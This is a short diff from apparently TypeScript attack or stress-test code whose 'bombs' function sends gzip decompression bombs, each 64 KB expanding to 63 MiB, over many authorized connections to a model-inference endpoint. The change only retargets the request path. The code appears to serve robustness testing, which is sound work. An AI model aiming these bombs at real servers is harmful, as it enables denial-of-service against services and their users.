@@ -74,7 +74,7 @@ const headOf = ({ authorization }: Victim, path: string, lines: readonly string[
 /** Bodies of 64 KB that expand to 63 MiB of spaces. */
 export function bombs(victim: Victim, count: number): Attack {
   const bomb = gzipSync(Buffer.alloc(63 * MIB, 32))
-  const head = headOf(victim, '/models/sized/predict/', ['Content-Encoding: gzip', `Content-Length: ${bomb.length}`])
+  const head = headOf(victim, '/v2/models/sized/infer', ['Content-Encoding: gzip', `Content-Length: ${bomb.length}`])
   const exchanges = Array.from({ length: count }, () => open(victim, head))
   for (const { socket } of exchanges) socket.write(bomb)
   return attack(
